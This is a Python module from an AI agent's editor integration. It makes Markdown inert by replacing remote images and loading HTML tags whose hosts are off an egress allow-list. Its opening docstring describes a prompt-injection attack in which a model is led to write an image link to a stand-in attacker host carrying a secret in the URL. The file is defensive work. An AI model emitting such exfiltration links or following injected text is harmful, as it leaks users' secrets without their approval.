"""Text for the editor with no remote image in it: the editor renders what the agent sends as
Markdown, and an image it loads sends its URL — query and all — with no tool call and no
approval. A prompt injection that gets the model to write `![x](https://evil.example/?d=SECRET)`
would otherwise leak SECRET as soon as the reply is shown.

Every image that could load from off the machine — Markdown `![alt](url)` (entities and escapes in
the address decoded as the renderer decodes them), reference-style `![alt][ref]`, an HTML tag
(`<img src>`, `srcset`, `poster`, a style's `url(…)`) — whose host is not on the run's egress
allow-list (`safety/egress.py`'s host check) becomes a placeholder naming its host, as the serve
page's Content-Security-Policy blocks it there. Local images (relative paths, `file:`, `data:`)
stay. Links are left alone: following one is the user's click, and the editor shows where it goes.

The rule is "every `![` outside a fenced code block is kept only when it parses, the way a
CommonMark renderer parses it, into an inline image with a plain label and an allowed address";
anything less certain (a reference, an odd label, a half-written address) is replaced, and a
`<` that may or may not open a tag becomes `&lt;`, so a renderer that reads the text otherwise
still finds no image. Fenced code is passed as written, but for a loading tag or a remote
image in it, one that runs over lines too (a renderer that tells the blocks apart otherwise
reads it as prose: `_code_line`); in a tag a backslash escapes nothing; telling
fences apart means following HTML blocks (inside one a fence is none) and list items (whose
fence ends with them) as CommonMark does, from the text as sent. Inline code is not exempt: a
link or tag that starts before a backtick can end after it, and backslash escapes do not hold
in raw HTML.

Line endings come out as LF: CommonMark's three (LF, CRLF, a lone CR) are one to a renderer,
and the scan reads one, so a fence closed by a CRLF line is closed for it too.

Streamed text is held back only from the start of an unfinished image or tag, or a line's first
few characters (or a line in an HTML block) until what it is shows, so prose passes at once.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from acp.schema import (
    AgentMessageChunk,
    AgentPlanUpdate,
    AgentThoughtChunk,
    ContentToolCallContent,
    TextContentBlock,
    ToolCallProgress,
    ToolCallStart,
    ToolCallUpdate,
    UserMessageChunk,
)

from loopwright.errors import ToolError
from loopwright.safety.egress import egress_hosts, host_allowed

_SPECIAL = re.compile(r"[\n\\!<]")
_FENCE = re.compile(r"(`{3,}|~{3,})([^\n]*)(?:\n|$)")
_LIST_ITEM = re.compile(r"([ ]{0,3}(?:[-+*]|[0-9]{1,9}[.)]))(?:([ ]{1,4})(?=\S)|[ ]*\n?\Z|[ ]+)")
_LINE_HEAD = len("   <![CDATA[")  # enough of a line to tell if it opens a fence or HTML block
# CommonMark's HTML blocks (its kinds 1 to 7): what starts one and what ends it ("": a blank
# line); inside one a fence is not a fence, so they are told apart exactly
_HTML_BLOCKS = (
    (re.compile(r"[ ]{0,3}<(pre|script|style|textarea)(?=[ \t>]|$)", re.IGNORECASE), "</{}>"),
    (re.compile(r"[ ]{0,3}<!--"), "-->"), (re.compile(r"[ ]{0,3}<\?"), "?>"),
    (re.compile(r"[ ]{0,3}<![A-Za-z]"), ">"), (re.compile(r"[ ]{0,3}<!\[CDATA\["), "]]>"),
    (re.compile(r"[ ]{0,3}</?(?:address|article|aside|base|basefont|blockquote|body|caption|"
                r"center|col|colgroup|dd|details|dialog|dir|div|dl|dt|fieldset|figcaption|"
                r"figure|footer|form|frame|frameset|h[1-6]|head|header|hr|html|iframe|legend|li|"
                r"link|main|menu|menuitem|nav|noframes|ol|optgroup|option|p|param|search|"
                r"section|summary|table|tbody|td|tfoot|th|thead|title|tr|track|ul)"
                r"(?=[ \t>]|/>|$)", re.IGNORECASE), ""),
)
_ATTRIBUTE = r"""(?:\s+[A-Za-z_:][A-Za-z0-9_.:-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?)"""
_LONE_TAG = re.compile(  # kind 7: one whole tag alone on its line, not inside a paragraph
    rf"[ ]{{0,3}}(?:<(?!(?:pre|script|style|textarea)\b)[A-Za-z][A-Za-z0-9-]*{_ATTRIBUTE}*\s*/?>"
    r"|</[A-Za-z][A-Za-z0-9-]*\s*>)[ \t]*\n?", re.IGNORECASE)
# lines that, outside a paragraph, start none: a heading, a thematic break, a link reference
# definition, indented code
_NOT_PARAGRAPH = re.compile(r"[ ]{0,3}(?:#|(?:[-*_][ \t]*){3,}$|\[[^\]]+\]:)|[ ]{4}|\t")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_TAG_NAME = re.compile(r"<([A-Za-z][A-Za-z0-9-]*)")
_CODE_LOADS = re.compile(r"<[A-Za-z]|!\[")  # in fenced code: a tag, an image
_TAG_END = re.compile(r"[\"'>]")
# `(url "title")` after an image's label, as CommonMark reads it (but for nested parentheses in
# the address: such an image is replaced)
_INLINE_DESTINATION = re.compile(
    r"\([ \t]*\n?[ \t]*(<[^<>\n]*>|[^\s()<][^\s()]*|)"
    r"(?:(?:[ \t]+|[ \t]*\n[ \t]*)(\"[^\"]*\"|'[^']*'|\([^()]*\)))?[ \t]*\n?[ \t]*\)")
_OPEN_ANGLE = re.compile(r"\([ \t]*\n?[ \t]*<[^<>\n]*\Z")
_REFERENCE = re.compile(r"\[[^\[\]\n]*\]")
_PARTIAL_REFERENCE = re.compile(r"\[[^\[\]\n]*")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
# in a tag: an address that reaches a host (any scheme, or none: `//host`, `\\host`)
_TAG_URL = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.\-]*:)?[\\/]{2}[^\s\"'<>`,)]*"
                      r"|\b(?:https?|ftp|wss?):[^\s\"'<>`,)]*", re.IGNORECASE)
_LOCAL_SCHEMES = frozenset({"data", "file"})
_TAB_AND_NEWLINE = str.maketrans("", "", "\t\n\r")
_ESCAPABLE = frozenset("!\"#$%&'()*+,-./:;=>?@[\\]^_`{|}~")  # ASCII punctuation but `<`


@dataclass
class _Lines:
    """Where the scan stands in the block structure: what decides if a fence opens."""

    fence: str = ""  # the opening fence's run (```` ``` ````, `~~~~`) while inside one
    fence_column: int = 0  # where the list item holding the fence has its text (0: none)
    list_column: int = 0  # where the list item the lines are in has its text (0: none)
    after_blank: bool = False
    paragraph: bool = False  # the line before was a paragraph's (an HTML block of kind 7 waits)
    ordinary: bool = True  # the current line is no fence's and no HTML block's
    shown: str = ""  # what was sent of the current line
    html_block_end: str | None = None  # "" ends at a blank line; "</pre>" … at that tag
    line_start: bool = True
    # in fenced code: the lines from one that begins an image or tag not ended (`_code_line`)
    code_carry: str = ""


@dataclass(frozen=True)
class MarkdownGuard:
    """The editor's text made inert for one session: `allowed` is its egress allow-list."""

    allowed: Sequence[str] = ()

    def text(self, text: str) -> str:
        """A whole text (a tool result, a title, a replayed message) made inert."""
        return _scan(_one_line_ending(text), _Lines(), final=True, allowed=self.allowed)[0]

    def stream(self) -> InertStream:
        return InertStream(self)

    def update(self, update: Any) -> Any:
        """A session update (or a permission question's tool call) whose Markdown the editor
        renders, made inert; a diff's old and new text are left exact."""
        if isinstance(update, AgentMessageChunk | AgentThoughtChunk | UserMessageChunk):
            if isinstance(update.content, TextContentBlock):
                content = update.content.model_copy(update={"text": self.text(update.content.text)})
                return update.model_copy(update={"content": content})
            return update
        if isinstance(update, AgentPlanUpdate):
            entries = [entry.model_copy(update={"content": self.text(entry.content)})
                       for entry in update.entries]
            return update.model_copy(update={"entries": entries})
        if isinstance(update, ToolCallStart | ToolCallProgress | ToolCallUpdate):
            changes: dict[str, Any] = {}
            if update.title is not None:
                changes["title"] = self.text(update.title)
            if update.content is not None:
                changes["content"] = [self._tool_content(part) for part in update.content]
            if isinstance(update.raw_output, str):  # a client may show it as the result
                changes["raw_output"] = self.text(update.raw_output)
            # Zed shows the raw input of a call the user expands: a string as Markdown (the
            # arguments of a call that did not parse), an object as JSON in a fence, which
            # no line of JSON can close (docs/editors.md)
            if isinstance(update.raw_input, str):
                changes["raw_input"] = self.text(update.raw_input)
            return update.model_copy(update=changes)
        return update

    def _tool_content(self, part: Any) -> Any:
        if isinstance(part, ContentToolCallContent) and isinstance(part.content, TextContentBlock):
            block = part.content.model_copy(update={"text": self.text(part.content.text)})
            return part.model_copy(update={"content": block})
        return part


@dataclass
class InertStream:
    """One streamed message (or thought): `feed` each delta, `end` when the editor's Markdown
    block ends (another kind of update comes, or the turn ends)."""

    guard: MarkdownGuard
    _pending: str = ""
    _lines: _Lines = field(default_factory=_Lines)
    _after_cr: bool = False  # the last delta ended with a CR: an LF first in the next is its

    def feed(self, text: str) -> str:
        if self._after_cr and text.startswith("\n"):
            text = text[1:]
        if text:
            self._after_cr = text.endswith("\r")
        self._pending += _one_line_ending(text)
        out, used = _scan(self._pending, self._lines, final=False, allowed=self.guard.allowed)
        self._pending = self._pending[used:]
        return out

    def end(self) -> str:
        out = _scan(self._pending, self._lines, final=True, allowed=self.guard.allowed)[0]
        self._pending, self._lines, self._after_cr = "", _Lines(), False
        return out


def _one_line_ending(text: str) -> str:
    """CRLF and a lone CR as LF: CommonMark's three line endings are one to a renderer, and the
    scan reads one (a fence whose closing line ends in CRLF is closed)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _scan(text: str, lines: _Lines, *, final: bool, allowed: Sequence[str]) -> tuple[str, int]:
    """`text` made inert as far as it can be told (all of it when `final`): the output and how
    many characters of `text` it covers; `lines` is updated to that point."""
    out: list[str] = []
    i, n = 0, len(text)
    shown_begin = 0
    while i < n:
        if lines.line_start:
            taken = _line_start(text, i, lines, final, out, allowed)
            if taken is None:
                break  # wait for the rest of the line
            if taken > i:
                i = taken
                shown_begin = len(out)
                continue
            lines.line_start = False
        match = _SPECIAL.search(text, i)
        stop = match.start() if match else n
        out.append(text[i:stop])
        i = stop
        if i >= n:
            break
        char = text[i]
        if char == "\n":
            _line_ended(lines.shown + "".join(out[shown_begin:]), lines)
            out.append(char)
            i += 1
            shown_begin = len(out)
            lines.line_start, lines.shown = True, ""
            continue
        if i + 1 >= n and not final:
            break  # `\`, `!` or `<` as the last character: what follows decides
        if char == "\\":  # an escape, but `\<` is none in raw HTML: the `<` is looked at
            escaped = text[i + 1:i + 2]
            step = 2 if escaped in _ESCAPABLE else 1
            out.append(text[i:i + step])
            i += step
            continue
        end = (_image(text, i, final, allowed, out) if char == "!"
               else _tag(text, i, final, allowed, out, raw=bool(lines.html_block_end)))
        if end is None:
            break
        i = end
    lines.shown += "".join(out[shown_begin:])
    return "".join(out), i


def _line_ended(shown: str, lines: _Lines) -> None:
    """What a whole line, as sent, tells of the next: whether an HTML block starts or ends on
    it (a placeholder may have taken its tag or its end's mark), whether it is a paragraph's
    (an HTML block of kind 7 cannot start after one)."""
    if lines.ordinary:
        end = _html_block_end(shown, 0, lines.paragraph)
        lines.html_block_end = None if end and end in shown.lower() else end
        lines.ordinary = end is None
    elif lines.html_block_end and lines.html_block_end in shown.lower():
        lines.html_block_end = None
    after_paragraph = lines.paragraph
    lines.paragraph = lines.ordinary and bool(shown.strip()) and (
        lines.paragraph or not _NOT_PARAGRAPH.match(shown))
    item = _LIST_ITEM.match(shown)
    if item is not None and after_paragraph and (
            not item.group(2) or item.group(1).strip()[:-1] not in ("", "1")):
        item = None  # an empty item, or a list numbered from other than 1, continues the text
    if item is not None:
        lines.list_column = _item_column(item)
    elif (shown.strip() and lines.after_blank
          and len(shown) - len(shown.lstrip(" ")) < lines.list_column):
        lines.list_column = 0  # a line less indented after a blank one: the list ended
    lines.after_blank = not shown.strip()


def _line_start(text: str, i: int, lines: _Lines, final: bool, out: list[str],
                allowed: Sequence[str]) -> int | None:
    """At the start of a line: pass a fenced block's line (or its opening line) through and
    return where the next line starts; `i` if the line is ordinary; None to wait for more.
    A loading tag in code is replaced all the same: a renderer that reads the blocks around
    it otherwise (an HTML block, a list) may take the line for HTML."""
    eol = text.find("\n", i)
    line = text[i:] if eol < 0 else text[i:eol + 1]
    if eol < 0 and not final and (lines.fence or lines.html_block_end is not None
                                  or len(line) < _LINE_HEAD or _fence_at(line, lines)
                                  or line.lstrip(" ").startswith("<")):
        return None  # what the line is, or what it ends, shows only once it is all there
    indent = len(line) - len(line.lstrip(" "))
    if lines.fence and lines.fence_column and line.strip() and indent < lines.fence_column:
        shown = _code_line(line, allowed, lines) if lines.code_carry else line
        if shown != line:  # a tag or image begun in the code loads from this line on, where
            out.append(shown)  # a renderer that read the code as prose reads on: code still
            return i + len(line)
        lines.fence, lines.fence_column, lines.list_column = "", 0, 0  # the list item ended
        lines.code_carry = ""
    if lines.fence:
        closing = line.strip(" \t\n")
        out.append(_code_line(line, allowed, lines))
        if (indent - lines.fence_column <= 3 and closing.startswith(lines.fence)
                and set(closing) == {lines.fence[0]}):
            lines.fence, lines.paragraph, lines.code_carry = "", False, ""
        return i + len(line)
    lines.ordinary = False
    if lines.html_block_end is not None:
        if lines.html_block_end == "" and not line.strip():
            lines.html_block_end = None  # a blank line ends it; a mark, the line that has it
        return i
    opening = _fence_at(line, lines)
    if opening is not None:
        lines.fence, lines.fence_column = opening
        if lines.fence_column == 0:
            lines.list_column = 0  # a fence at the margin ends a list
        lines.code_carry = ""
        out.append(_code_line(line, allowed, lines))
        return i + len(line)
    # for this line's own raw HTML; from its end on, as the line sent tells (`_line_ended`)
    lines.html_block_end = _html_block_end(text, i, lines.paragraph)
    lines.ordinary = True
    return i


def _fence_at(line: str, lines: _Lines) -> tuple[str, int] | None:
    """The run of the fence `line` opens and the column of the list item holding it (0: none);
    None if it opens none. A fence is up to three spaces in from its container's margin: the
    page's, or the list item's the lines before opened (`- ```` on the item's own line too)."""
    item = _LIST_ITEM.match(line)
    indent = len(line) - len(line.lstrip(" "))
    if item is not None and _FENCE.match(line, item.end()):
        column, start = _item_column(item), item.end()
    elif lines.list_column and lines.list_column <= indent <= lines.list_column + 3:
        column, start = lines.list_column, indent
    elif indent <= 3:
        column, start = 0, indent
    else:
        return None
    fence = _FENCE.match(line, start)
    if fence is None or (fence.group(1)[0] == "`" and "`" in fence.group(2)):
        return None
    return fence.group(1), column


def _item_column(item: re.Match[str]) -> int:
    """Where a list item's text starts: after its marker and one to four spaces; one space in
    when it starts with a blank or with indented code."""
    return item.end() if item.group(2) else len(item.group(1)) + 1


def _html_block_end(text: str, i: int, in_paragraph: bool) -> str | None:
    """What ends the HTML block the line at `i` starts (None: it starts none)."""
    for start, end in _HTML_BLOCKS:
        found = start.match(text, i)
        if found is not None:
            return end.format(*(group.lower() for group in found.groups()))
    return "" if not in_paragraph and _LONE_TAG.fullmatch(text, i, _line_end(text, i)) else None


def _line_end(text: str, i: int) -> int:
    eol = text.find("\n", i)
    return len(text) if eol < 0 else eol + 1


def _image(text: str, i: int, final: bool, allowed: Sequence[str],
           out: list[str]) -> int | None:
    """At `!`: an image kept as written, or its placeholder; where the scan goes on."""
    if text[i + 1:i + 2] != "[":
        out.append("!")
        return i + 1
    label_end = _label_end(text, i + 2)
    if label_end is None:
        if final:  # never closed: not an image, and now it cannot become one
            out.append("\\!")
            return i + 1
        return None
    label = text[i + 2:label_end]
    if text[label_end] != "]":  # a paragraph ended inside the label
        out.append(_placeholder(label, None))
        return label_end
    inline = _inline_destination(text, label_end + 1, final)
    if inline is None:
        return None
    destination, end = inline
    plain_label = not any(char in label for char in "`<\\!&\n")
    host = _blocked_host(destination, allowed) if destination is not None else "?"
    written = text[i:end]
    if (destination is not None and plain_label and host is None
            and written.count("<") <= written.count("](<")):
        out.append(written)  # (no `<` in it but the address's own: in raw HTML, no tag)
        return end
    if destination is None:  # `![alt][ref]`, `![alt][]`, `![alt]`: its address may come later
        reference = _REFERENCE.match(text, label_end + 1)
        if reference is None and not final and _PARTIAL_REFERENCE.fullmatch(text, label_end + 1):
            return None
        end = reference.end() if reference else label_end + 1
    out.append(_placeholder(label, None if host in (None, "?") else host))
    return end


def _label_end(text: str, start: int) -> int | None:
    """The `]` closing an image label opened just before `start` (brackets nest); None if the
    text ends first. A blank line closes nothing, but then the label never closes either."""
    depth = 0
    i = start
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "[":
            depth += 1
        elif char == "]":
            if depth == 0:
                return i
            depth -= 1
        elif char == "\n" and _BLANK_LINE.match(text, i):
            return i  # the paragraph ends: treated as a (broken) label, so it is replaced
        i += 1
    return None


def _inline_destination(text: str, start: int, final: bool
                        ) -> tuple[str | None, int] | None:
    """After an image's `]`: `(destination, end)` of an inline `(url "title")`, `(None,
    start)` if there is none (a reference image, or a broken one), None to wait for more."""
    if start >= len(text):
        return None if not final else (None, start)
    if text[start] != "(":
        return None, start
    if not final and _OPEN_ANGLE.match(text, start):
        return None  # `(<…` not closed yet: what it is shows at its `>`
    parsed = _INLINE_DESTINATION.match(text, start)
    if parsed is not None and not _BLANK_LINE.search(parsed.group()):
        raw = parsed.group(1)
        return (raw[1:-1] if raw.startswith("<") else raw), parsed.end()
    closing = text.find(")", start)
    if closing < 0 and not final and not _BLANK_LINE.search(text, start):
        return None
    return None, start  # not an inline image the way it is written: replaced


def _tag(text: str, i: int, final: bool, allowed: Sequence[str], out: list[str], *,
         raw: bool) -> int | None:
    """At `<`: an HTML tag that would load something from a host off the allow-list becomes a
    placeholder; links (`<a …>`), other tags and autolinks pass. `raw`: in an HTML block that a
    blank line does not end, where a tag runs past blank lines too."""
    name = _TAG_NAME.match(text, i)
    if name is None or name.end() >= len(text):
        if name is not None and not final:
            return None
        out.append("<")
        return i + 1
    if not (text[name.end()].isspace() or text[name.end()] in "/>"):
        out.append("<")  # `<https:…>` (an autolink), `<a[…`: no tag here
        return i + 1
    found = _tag_end(text, name.end(), final, raw=raw)
    if found is None:
        return None
    end, closed = found
    tag = text[i:end]
    blocked = _tag_blocked(tag, name.group(1), allowed)
    if blocked is not None:
        out.append(_placeholder("", blocked if blocked != "?" else None))
        return end
    if not closed or "\n" in tag or "<" in tag[1:] or "![" in tag:
        # not surely one tag the way every renderer reads it: made none (`&lt;` is `<` to
        # Markdown and HTML alike), and the text in it is looked at as text
        out.append("&lt;")
        return i + 1
    out.append(tag)
    return end


def _tag_blocked(tag: str, name: str, allowed: Sequence[str]) -> str | None:
    """The host off the allow-list a tag named `name` would load from ("?": one not told)."""
    if name.lower() == "a":
        return None
    decoded = html.unescape(tag).translate(_TAB_AND_NEWLINE)
    return next((host for url in _TAG_URL.findall(decoded)
                 if (host := _blocked_host(url, allowed, raw_html=True)) is not None), None)


def _code_line(line: str, allowed: Sequence[str], lines: _Lines) -> str:
    """A line of fenced code as written, but for what would load from off the list were it
    read as prose: a tag, or a Markdown image. A renderer that tells the blocks around it apart
    otherwise (a list, a block quote, an HTML block) may take the line for prose, so a remote
    image in code is shown as its placeholder too (an example's address is lost, never sent).

    Read as prose, an image or a tag may run over lines (`<img` here, `src=…>` on the next):
    one not ended on its line is carried to the next (`lines.code_carry`) until it ends, a
    blank line ends its paragraph, or the block ends; the part of it on each line is replaced
    once what it holds so far loads from off the list. A tag is carried only while it can still
    be one as CommonMark reads a tag over lines (or it opens an HTML block, which a browser
    reads as loosely as it likes), so `a <b` in code does not take the lines after it along.
    Past `_CARRY_LIMIT` characters (looked at again on every line, it would cost the square of
    its length) an address off the list anywhere on a line costs the line."""
    carry, lines.code_carry = lines.code_carry, ""
    if not line.strip():
        return line  # a blank line ends the paragraph, and whatever was begun in it
    if len(carry) > _CARRY_LIMIT:
        lines.code_carry = carry  # (ended by a blank line or the block's end, as above)
        blocked = _tag_blocked("<x " + line, "x", allowed)
        return line if blocked is None else _CLOSERS["<"] + _CLOSERS["!"] + _placeholder(
            "", blocked if blocked != "?" else None) + ("\n" if line.endswith("\n") else "")
    text = carry + line
    out: list[str] = []
    written, looked = len(carry), 0  # what of `text` is out (or in `out`); what was looked at
    carried: int | None = None  # where the line of the first image or tag not ended begins
    for found in _CODE_LOADS.finditer(text):
        start = found.start()
        if start < looked:
            continue
        line_begin = text.rfind("\n", 0, start) + 1  # (the carry begins a line)
        margin = start - line_begin <= 3 and not text[line_begin:start].strip(" ")
        end, replacement, pending = _code_load(text, start, allowed, margin=margin)
        if replacement is not None and end > written:
            if start < len(carry):  # its opening went with an earlier line: closed first
                replacement = _CLOSERS[text[start]] + replacement
            out += [text[written:start] if start > written else "", replacement]
            written = end
        if pending and carried is None:
            carried = line_begin
        # an image not ended may be none: the tags in its label and address are looked at
        looked = start + 2 if pending and text[start] == "!" else end
    if carried is not None:
        lines.code_carry = text[carried:]
    return "".join(out) + text[written:] if out else line


_CARRY_LIMIT = 8_192
# what ends an image or tag whose opening was sent and whose rest is replaced, lest the opening
# and what follows the placeholder make one: a blank line ends an image's paragraph (a `]`
# might close a nested bracket instead); `"'>` ends a tag in a browser whether it was in a
# double-quoted value, a single-quoted one or neither (an HTML block of `<pre` or `<script`
# runs past blank lines)
_CLOSERS = {"!": "\n\n", "<": "\"'>"}
_TAG_BEGUN = re.compile(  # a tag CommonMark may still read as one once the rest of it comes
    rf"<[A-Za-z][A-Za-z0-9-]*{_ATTRIBUTE}*(?:\s+[A-Za-z_:][A-Za-z0-9_.:-]*"
    r"""(?:\s*=\s*(?:[^\s"'=<>`]*|'[^']*|"[^"]*)?)?)?\s*""")
_WHOLE_TAG = re.compile(rf"<[A-Za-z][A-Za-z0-9-]*{_ATTRIBUTE}*\s*/?>")
_BLOCK_TAG = re.compile(_HTML_BLOCKS[0][0].pattern.removeprefix("[ ]{0,3}") + "|"
                        + _HTML_BLOCKS[5][0].pattern.removeprefix("[ ]{0,3}"), re.IGNORECASE)


def _code_load(text: str, start: int, allowed: Sequence[str], *, margin: bool
               ) -> tuple[int, str | None, bool]:
    """At an image's `!` or a tag's `<` in code: where it ends (or where to look on), its
    placeholder (None if it loads nothing from off the list) and whether it runs on past the
    end of `text`. `margin`: it begins a line, where a tag may open an HTML block."""
    if text[start] == "!":
        taken: list[str] = []
        end = _image(text, start, False, allowed, taken)
        if end is not None:
            return end, None if taken in ([text[start:end]], ["!"]) else "".join(taken), False
        # not ended: replaced as it stands if it is no image so far (as prose is at its end),
        # and followed to its end all the same
        end = _image(text, start, True, allowed, taken)
        assert end is not None
        kept = taken in ([text[start:end]], ["\\!"], ["!"])
        return (len(text), None, True) if kept else (end, "".join(taken), True)
    name = _TAG_NAME.match(text, start)
    assert name is not None
    if name.end() < len(text) and not (text[name.end()].isspace() or text[name.end()] in "/>"):
        return name.end(), None, False  # `<https:…>` (an autolink), `a <b:`: no tag here
    loose = margin and _BLOCK_TAG.match(text, start) is not None
    tag_end = _tag_end(text, name.end(), False, raw=False)
    end = len(text) if tag_end is None else tag_end[0]
    tag = text[start:end]
    one_line = "\n" not in tag.rstrip("\n")
    if not (one_line or loose or (_TAG_BEGUN if tag_end is None else _WHOLE_TAG).fullmatch(tag)):
        return name.end(), None, False  # over lines, no tag as CommonMark reads one
    blocked = _tag_blocked(tag, name.group(1), allowed)
    return end, None if blocked is None else _placeholder(
        "", blocked if blocked != "?" else None), tag_end is None


def _tag_end(text: str, start: int, final: bool, *, raw: bool) -> tuple[int, bool] | None:
    """Past the `>` that ends a tag whose name ends at `start` (`>` in quotes does not end it),
    and True; with no such `>`, the next blank line or the end (the longest the tag can be read
    to be) and False. None to wait for more."""
    blank = None if raw else _BLANK_LINE.search(text, start)
    limit = blank.start() if blank else len(text)
    end = start
    while True:
        found = _TAG_END.search(text, end, limit)
        if found is not None and found.group() == ">":
            return found.end(), True
        closing = text.find(found.group(), found.end(), limit) if found is not None else -1
        if closing < 0:
            return (limit, False) if blank is not None or final else None
        end = closing + 1


def _blocked_host(destination: str, allowed: Sequence[str], *, raw_html: bool = False
                  ) -> str | None:
    """None if an image at `destination` stays on this machine or goes to an allowed host; else
    the host it would reach ("?" when none can be told: refused all the same). `raw_html`: an
    address in a tag, where a backslash escapes nothing (`\\\\host` is `//host` to a browser)."""
    address = destination if raw_html else re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", destination)
    address = html.unescape(address)
    address = address.translate(_TAB_AND_NEWLINE).strip("\x00 \x0b\x0c")
    scheme = _SCHEME.match(address)
    if scheme is None and not address.startswith(("//", "\\\\", "/\\", "\\/")):
        return None  # a path: the editor looks for it in the project
    if scheme is not None and scheme.group(1).lower() in _LOCAL_SCHEMES:
        return None
    url = address.replace("\\", "/") if scheme else "https:" + address.replace("\\", "/")
    try:
        hosts = egress_hosts(url)
    except ToolError:
        return "?"
    return next((host for host in hosts if not host_allowed(host, allowed)), None)


def _placeholder(alt: str, host: str | None) -> str:
    """What stands in for a blocked image: its alt text and host as plain text, with no
    character that Markdown or HTML could make anything of (escapes do not hold in raw HTML)."""
    words = " ".join("".join(c if c.isalnum() or c in " .,-'" else " " for c in alt).split())
    shown = words[:200]
    where = f" from {''.join(c for c in host if c.isalnum() or c in '.-:')}" if host else ""
    return f"(image{where} not loaded{': ' + shown if shown else ''})"
